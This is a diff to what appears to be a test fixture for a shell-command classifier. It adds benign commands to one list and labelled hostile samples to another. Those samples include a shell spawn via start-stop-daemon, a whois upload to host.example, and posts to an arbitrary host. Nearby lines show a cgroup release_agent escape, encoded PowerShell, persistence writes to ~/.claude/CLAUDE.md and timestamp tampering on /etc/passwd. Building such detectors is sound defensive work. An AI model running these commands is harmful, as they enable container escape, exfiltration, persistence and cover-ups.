@@ -132,6 +132,9 @@ curl https://api.twilio.com/status
 rsync -a --delete build/ site/
 split -l 100 data.csv
 cat a.txt | less
+echo | openssl s_client -connect example.com:443
+python3 -c 'import requests; requests.post("http://api:8000/x", json={}); print(1)'
+python3 -c 'import subprocess,sys; subprocess.run([sys.executable, "app.py"])'
 python3 -c 'import os; os.system("ls")'
 python3 -c 'import subprocess; print(subprocess.run(["git", "log"], stdout=subprocess.PIPE).stdout)'
 python3 -c 'import os; os.unlink(tmp.name); os.chmod("run.sh", 0o755)'
@@ -285,6 +288,10 @@ privilege.cgroup            echo /cmd > /tmp/cgrp/release_agent
 code.hidden                 python3 -c 'a=__import__; a("os").system("id")'
 code.powershell             pwsh -enc eA==
 persistence.write           echo x > ~/.claude/CLAUDE.md
+code.posts                  python3 -c 'import requests,sys; requests.post(sys.argv[1], data="x")'
+code.runs-programs          python3 -c 'import subprocess,sys; subprocess.run([sys.executable, "-c", "x"])'
+shell.starts-shell          start-stop-daemon -S -x /bin/sh -- -p
+network.upload              whois -h host.example -p 4242 x
 network.admin-api           curl localhost:9200/orders -X DELETE
 network.copy-to             rsync -a --delete /srv/a/ /srv/b/
 coverup.timestamps          touch -d '2020-01-01' /etc/passwd
